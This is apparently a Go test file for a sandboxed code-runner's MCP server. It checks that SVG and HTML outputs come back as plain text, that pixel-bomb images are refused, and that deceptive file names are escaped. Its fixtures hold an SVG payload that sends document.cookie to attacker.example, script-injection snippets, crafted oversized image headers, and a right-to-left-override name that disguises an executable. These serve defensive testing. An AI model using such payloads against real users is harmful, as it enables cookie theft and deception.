package mcp

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"strings"
	"testing"
	"unicode/utf8"

	mcpgo "github.com/mark3labs/mcp-go/mcp"

	"github.com/safe-run/safe-run/sandbox"
)

// Small whole images of each format returned as images.
var (
	jpegData = encodeImage(func(b *bytes.Buffer, m image.Image) error { return jpeg.Encode(b, m, nil) })
	gifData  = encodeImage(func(b *bytes.Buffer, m image.Image) error { return gif.Encode(b, m, nil) })
	fullPNG  = encodeImage(func(b *bytes.Buffer, m image.Image) error { return png.Encode(b, m) })
)

func encodeImage(encode func(*bytes.Buffer, image.Image) error) []byte {
	m := image.NewRGBA(image.Rect(0, 0, 4, 3))
	m.Set(1, 1, color.RGBA{R: 255, A: 255})
	var b bytes.Buffer
	if err := encode(&b, m); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// pngHeader is a PNG's signature and IHDR chunk declaring w×h pixels
// (8-bit RGBA), with a correct CRC: all a decoder reads before allocating.
func pngHeader(w, h uint32) []byte {
	chunk := []byte("IHDR")
	chunk = binary.BigEndian.AppendUint32(chunk, w)
	chunk = binary.BigEndian.AppendUint32(chunk, h)
	chunk = append(chunk, 8, 6, 0, 0, 0)
	out := []byte("\x89PNG\r\n\x1a\n")
	out = binary.BigEndian.AppendUint32(out, uint32(len(chunk)-4))
	out = append(out, chunk...)
	return binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(chunk))
}

// jpegHeader is the start of a baseline JPEG declaring w×h pixels.
func jpegHeader(w, h uint16) []byte {
	// SOI, a JFIF APP0 (with which a decoder reads the size from SOF
	// alone), SOF0.
	out := []byte{0xff, 0xd8, 0xff, 0xe0, 0, 16, 'J', 'F', 'I', 'F', 0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xff, 0xc0, 0, 11, 8}
	out = binary.BigEndian.AppendUint16(out, h)
	out = binary.BigEndian.AppendUint16(out, w)
	return append(out, 1, 1, 0x11, 0)
}

const svgScript = `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('https://attacker.example/?'+document.cookie)"><script>alert(1)</script></svg>`

// TestDeliverContent checks the content policy against the attacks of
// issue 13.8 and its positive controls: which files come back as images,
// which as text, and what the result says was withheld.
func TestDeliverContent(t *testing.T) {
	tests := []struct {
		name     string
		data     []byte
		mime     string // the type the content comes back with
		image    bool
		text     bool
		withheld string // a part of the withheld note, or "" for none
		skipped  string // a part of the skipped reason, or "" when returned
	}{
		{name: "plot.png", data: fullPNG, mime: "image/png", image: true},
		{name: "header-only.png", data: pngHeader(640, 480), mime: "image/png", image: true},
		{name: "photo.jpg", data: jpegData, mime: "image/jpeg", image: true},
		{name: "anim.gif", data: gifData, mime: "image/gif", image: true},
		{name: "at-the-cap.png", data: pngHeader(5000, 5000), mime: "image/png", image: true},
		{name: "mislabelled.png", data: jpegData, mime: "image/jpeg", image: true},

		{name: "bomb.png", data: pngHeader(100000, 100000), mime: "image/png", skipped: "declares 100000×100000 pixels, over the 25-megapixel cap"},
		{name: "just-over.png", data: pngHeader(5001, 5000), mime: "image/png", skipped: "over the 25-megapixel cap"},
		{name: "bomb.jpg", data: jpegHeader(65535, 65535), mime: "image/jpeg", skipped: "declares 65535×65535 pixels"},
		{name: "truncated.png", data: pngHeader(10, 10)[:20], mime: "application/octet-stream", withheld: "does not parse as PNG, JPEG or GIF"},
		{name: "bad-crc.png", data: append(pngHeader(10, 10)[:29], 0, 0, 0, 0), mime: "application/octet-stream", withheld: "does not parse"},
		{name: "text.png", data: []byte("<html><script>alert(1)</script>"), mime: "text/plain", text: true, withheld: "does not parse"},
		{name: "image.webp", data: []byte("RIFF\x00\x00\x00\x00WEBPVP8 "), mime: "application/octet-stream", withheld: "only PNG, JPEG and GIF headers are checked"},

		{name: "evil.svg", data: []byte(svgScript), mime: "text/plain", text: true, withheld: "SVG can carry scripts; it comes back as text/plain"},
		{name: "EVIL.SVG", data: []byte(svgScript), mime: "text/plain", text: true, withheld: "SVG can carry scripts"},
		{name: "page.html", data: []byte("<script>alert(1)</script>"), mime: "text/plain", text: true, withheld: "not returned as text/html: a client could render it and run its scripts"},
		{name: "page.htm", data: []byte("<b onmouseover=x>"), mime: "text/plain", text: true, withheld: "text/html"},
		{name: "app.js", data: []byte("alert(1)"), mime: "text/plain", text: true, withheld: "run its scripts"},
		{name: "feed.xml", data: []byte("<?xml-stylesheet href='x.xsl'?><a/>"), mime: "text/plain", text: true, withheld: "run its scripts"},
		{name: "doc.pdf", data: []byte("%PDF-1.7\x00\xff"), mime: "application/octet-stream", withheld: "not returned as application/pdf"},

		{name: "data.csv", data: []byte("a,b\n"), mime: "text/csv", text: true},
		{name: "notes.md", data: []byte("# hi"), mime: "text/markdown", text: true},
		{name: "r.json", data: []byte("{}"), mime: "application/json", text: true},
		{name: "log.txt", data: []byte("ok"), mime: "text/plain", text: true},
		{name: "model.bin", data: []byte{0, 1}, mime: "application/octet-stream"},
		{name: "README", data: []byte("words"), mime: "text/plain", text: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := deliver(tt.name, tt.data)
			if d.mimeType != tt.mime || d.image != tt.image || d.text != tt.text {
				t.Errorf("deliver = %+v, want type %s, image %v, text %v", d, tt.mime, tt.image, tt.text)
			}
			if tt.withheld == "" && d.withheld != "" || !strings.Contains(d.withheld, tt.withheld) {
				t.Errorf("withheld = %q, want %q", d.withheld, tt.withheld)
			}
			if tt.skipped == "" && d.skipped != "" || !strings.Contains(d.skipped, tt.skipped) {
				t.Errorf("skipped = %q, want %q", d.skipped, tt.skipped)
			}
			if d.skipped != "" && (d.image || d.text) {
				t.Errorf("a skipped file comes back as content: %+v", d)
			}
			if d.image && d.mimeType != "image/png" && d.mimeType != "image/jpeg" && d.mimeType != "image/gif" {
				t.Errorf("image content of type %s", d.mimeType)
			}
			if active(d.mimeType) || d.mimeType == "image/svg+xml" {
				t.Errorf("content comes back with the active type %s", d.mimeType)
			}
		})
	}
}

// TestResultWithholdsActiveContent checks run_code's result for the
// attacks: no SVG image, no text/html resource, no pixel bomb, and the
// structured content and text say what was withheld.
func TestResultWithholdsActiveContent(t *testing.T) {
	files := []sandbox.OutputFile{
		{Path: "evil.svg", Data: []byte(svgScript)},
		{Path: "page.html", Data: []byte("<script>alert(1)</script>")},
		{Path: "bomb.png", Data: pngHeader(100000, 100000)},
		{Path: "plot.png", Data: fullPNG},
	}
	for i := range files {
		files[i].Size = int64(len(files[i].Data))
	}
	r := result(sandbox.Result{Status: sandbox.StatusOK, Files: files})
	if len(r.Content) != 4 {
		t.Fatalf("%d content items, want the text, the SVG and HTML as text, and plot.png", len(r.Content))
	}
	for i, name := range []string{"evil.svg", "page.html"} {
		e, ok := mcpgo.AsEmbeddedResource(r.Content[1+i])
		if !ok {
			t.Fatalf("content %d is %T, want a resource", 1+i, r.Content[1+i])
		}
		tr, ok := mcpgo.AsTextResourceContents(e.Resource)
		if !ok || tr.MIMEType != "text/plain" || !strings.HasSuffix(tr.URI, "/"+name) {
			t.Errorf("%s comes back as %#v, want a text/plain resource", name, e.Resource)
		}
	}
	if img, ok := mcpgo.AsImageContent(r.Content[3]); !ok || img.Data != base64.StdEncoding.EncodeToString(fullPNG) {
		t.Errorf("content 3 = %#v, want plot.png as an image", r.Content[3])
	}
	got := checkStructured(t, r.StructuredContent)
	want := []struct {
		path, mime, withheld, skipped string
		returned                      bool
	}{
		{"evil.svg", "text/plain", "SVG can carry scripts", "", true},
		{"page.html", "text/plain", "text/html", "", true},
		{"bomb.png", "image/png", "", "100000×100000 pixels", false},
		{"plot.png", "image/png", "", "", true},
	}
	for i, f := range got["files"].([]any) {
		f := f.(map[string]any)
		w := want[i]
		withheld, _ := f["withheld"].(string)
		skipped, _ := f["skipped"].(string)
		if f["path"] != w.path || f["mime_type"] != w.mime || f["returned"] != w.returned ||
			(w.withheld == "") != (withheld == "") || !strings.Contains(withheld, w.withheld) ||
			(w.skipped == "") != (skipped == "") || !strings.Contains(skipped, w.skipped) {
			t.Errorf("structured file %d = %v, want %+v", i, f, w)
		}
	}
	assertLines(t, firstText(t, r),
		"  evil.svg (text/plain, "+sandbox.FormatBytes(int64(len(svgScript)))+"): returned (not returned as an image: SVG can carry scripts; it comes back as text/plain)\n",
		"  page.html (text/plain, 25B): returned (not returned as text/html: a client could render it and run its scripts; it comes back as text/plain)\n",
		"  bomb.png (image/png, 33B): not returned: the image declares 100000×100000 pixels, over the 25-megapixel cap for images\n",
		"  plot.png (image/png, ")
}

// bidiName reads as "invoiceexe.png" and is an executable.
const bidiName = "invoice\u202egnp.exe"

// TestEscapeName checks that every name shown keeps its hidden characters
// visible, and that an escaped name reads back as the real one.
func TestEscapeName(t *testing.T) {
	tests := []struct{ name, want string }{
		{"plot.png", "plot.png"},
		{"données/été.csv", "données/été.csv"},
		{"with space.txt", "with space.txt"},
		{"日本語.txt", "日本語.txt"},
		{bidiName, `invoice\u202egnp.exe`},
		{"a\u2066b\u2069c\u202a\u202b\u202c\u202d", `a\u2066b\u2069c\u202a\u202b\u202c\u202d`},
		{"zero\u200bwidth\u200d\ufeff", `zero\u200bwidth\u200d\ufeff`},
		{"line\u2028sep\u2029", `line\u2028sep\u2029`},
		{"ctl\x1b[31m\x7f\u0085", `ctl\u001b[31m\u007f\u0085`},
		{"tag\U000e0041", `tag\U000e0041`},
		{"bad\xffutf8", `bad\xffutf8`},
		{`back\slash`, `back\\slash`},
	}
	for _, tt := range tests {
		got := EscapeName(tt.name)
		if got != tt.want {
			t.Errorf("EscapeName(%q) = %q, want %q", tt.name, got, tt.want)
		}
		if back := unescapeName(got); back != tt.name {
			t.Errorf("unescapeName(%q) = %q, want %q", got, back, tt.name)
		}
		if strings.ContainsFunc(got, hidden) {
			t.Errorf("EscapeName(%q) = %q still has hidden characters", tt.name, got)
		}
	}
	for _, s := range []string{`a\qb`, `a\u12`, `a\uzzzz`, `trailing\`} {
		if got := unescapeName(s); got != s {
			t.Errorf("unescapeName(%q) = %q, want it unchanged for the path check to refuse", s, got)
		}
	}
}

// TestResultEscapesNames checks the names of run_code's files, in the
// structured content and the text.
func TestResultEscapesNames(t *testing.T) {
	r := result(sandbox.Result{Status: sandbox.StatusOK, Files: []sandbox.OutputFile{
		{Path: bidiName, Size: 2, Data: []byte("MZ")},
		{Path: "skipped\u200b.png", Size: 9 << 20, Skipped: "larger than the per-file limit"},
	}})
	text := firstText(t, r)
	if strings.ContainsFunc(text, func(r rune) bool { return hidden(r) && r != '\n' }) {
		t.Errorf("text shows hidden characters: %q", text)
	}
	assertLines(t, text, `  invoice\u202egnp.exe (text/plain, 2B): returned; the name has invisible or control characters, shown as \u escapes`+"\n",
		`  skipped\u200b.png (image/png, 9MiB): not returned: larger than the per-file limit; the name has`)
	got := checkStructured(t, r.StructuredContent)
	for i, want := range []string{`invoice\u202egnp.exe`, `skipped\u200b.png`} {
		f := got["files"].([]any)[i].(map[string]any)
		if f["path"] != want || f["name_escaped"] != true {
			t.Errorf("structured file %d = %v, want path %q, name_escaped", i, f, want)
		}
	}
	// The resource's URI is percent-encoded, never the raw character.
	e, _ := mcpgo.AsEmbeddedResource(r.Content[1])
	if uri := e.Resource.(mcpgo.TextResourceContents).URI; strings.ContainsFunc(uri, hidden) || !strings.Contains(uri, "%E2%80%AE") {
		t.Errorf("resource URI %q", uri)
	}
}

// TestReadFileResult checks read_file's content for the attacks and
// controls: same policy as run_code, with a note first when it withheld.
func TestReadFileResult(t *testing.T) {
	tests := []struct {
		name  string
		data  []byte
		kinds []string // content items: "note", "image", "text", "blob"
		note  string
		mime  string
	}{
		{"plot.png", fullPNG, []string{"image"}, "", "image/png"},
		{"photo.jpg", jpegData, []string{"image"}, "", "image/jpeg"},
		{"data.csv", []byte("a,b\n"), []string{"text"}, "", "text/csv"},
		{"evil.svg", []byte(svgScript), []string{"note", "text"}, "evil.svg: not returned as an image: SVG can carry scripts", "text/plain"},
		{"page.html", []byte("<script>alert(1)</script>"), []string{"note", "text"}, "page.html: not returned as text/html", "text/plain"},
		{"bomb.png", pngHeader(100000, 100000), []string{"note"}, "bomb.png: not returned: the image declares 100000×100000 pixels", "image/png"},
		{"truncated.png", pngHeader(1, 1)[:12], []string{"note", "blob"}, "does not parse as PNG, JPEG or GIF", "application/octet-stream"},
		{bidiName, []byte("MZ\x00"), []string{"note", "blob"}, `invoice\u202egnp.exe: the name has invisible or control characters`, "application/octet-stream"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := readFileResult(sandbox.OutputFile{Path: tt.name, Size: int64(len(tt.data)), Data: tt.data, Type: "file"})
			var kinds []string
			for i, c := range r.Content {
				switch c := c.(type) {
				case mcpgo.ImageContent:
					kinds = append(kinds, "image")
					if c.MIMEType != tt.mime {
						t.Errorf("image type %s, want %s", c.MIMEType, tt.mime)
					}
				case mcpgo.TextContent:
					if i == 0 && tt.note != "" {
						kinds = append(kinds, "note")
						if !strings.Contains(c.Text, tt.note) || strings.ContainsFunc(c.Text, func(r rune) bool { return hidden(r) && r != '\n' }) {
							t.Errorf("note %q, want %q", c.Text, tt.note)
						}
					} else {
						kinds = append(kinds, "text")
					}
				case mcpgo.EmbeddedResource:
					kinds = append(kinds, "blob")
					if b, ok := c.Resource.(mcpgo.BlobResourceContents); !ok || b.MIMEType != tt.mime {
						t.Errorf("resource %#v, want a blob of %s", c.Resource, tt.mime)
					}
				}
			}
			if strings.Join(kinds, ",") != strings.Join(tt.kinds, ",") {
				t.Errorf("content %v, want %v", kinds, tt.kinds)
			}
			data, _ := json.Marshal(r.StructuredContent)
			var out map[string]any
			_ = json.Unmarshal(data, &out)
			if out["mime_type"] != tt.mime || out["path"] != EscapeName(tt.name) || (tt.note != "") != (out["withheld"] != nil || out["skipped"] != nil || out["name_escaped"] != nil) {
				t.Errorf("structured %v", out)
			}
		})
	}
}

// TestEscapeJSON checks the CLI's JSON: hidden characters as \u escapes,
// the decoded value unchanged.
func TestEscapeJSON(t *testing.T) {
	in := map[string]any{"files": []any{map[string]any{"path": bidiName + "\u2066\U000e0041\u0085\u007f"}}, "stdout": "ok\t\n"}
	raw, err := json.MarshalIndent(in, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	got := EscapeJSON(raw)
	if strings.ContainsFunc(string(got), func(r rune) bool { return hidden(r) && r != '\n' }) {
		t.Errorf("EscapeJSON left hidden characters: %q", got)
	}
	if !strings.Contains(string(got), `invoice\u202egnp.exe\u2066\udb40\udc41\u0085\u007f`) {
		t.Errorf("EscapeJSON = %s", got)
	}
	var back map[string]any
	if err := json.Unmarshal(got, &back); err != nil {
		t.Fatal(err)
	}
	if a, b := mustJSON(t, back), mustJSON(t, in); a != b {
		t.Errorf("value changed:\n%s\nwant\n%s", a, b)
	}
	if plain := []byte(`{"a": "b"}`); !bytes.Equal(EscapeJSON(plain), plain) {
		t.Errorf("EscapeJSON changed plain JSON")
	}
}

func mustJSON(t *testing.T, v any) string {
	t.Helper()
	data, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// assertLines checks that text contains each of wants.
func assertLines(t *testing.T, text string, wants ...string) {
	t.Helper()
	for _, w := range wants {
		if !strings.Contains(text, w) {
			t.Errorf("text does not contain %q:\n%s", w, text)
		}
	}
}

// FuzzEscapeName: an escaped name shows no hidden character and reads
// back as the name.
func FuzzEscapeName(f *testing.F) {
	for _, s := range []string{"plot.png", bidiName, "a\x00b\xff", `back\slash`, "tag\U000e0041", `\u202e`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, name string) {
		shown := EscapeName(name)
		if strings.ContainsFunc(shown, hidden) || !utf8.ValidString(shown) {
			t.Fatalf("EscapeName(%q) = %q shows hidden characters", name, shown)
		}
		if back := unescapeName(shown); back != name {
			t.Fatalf("unescapeName(EscapeName(%q)) = %q", name, back)
		}
	})
}
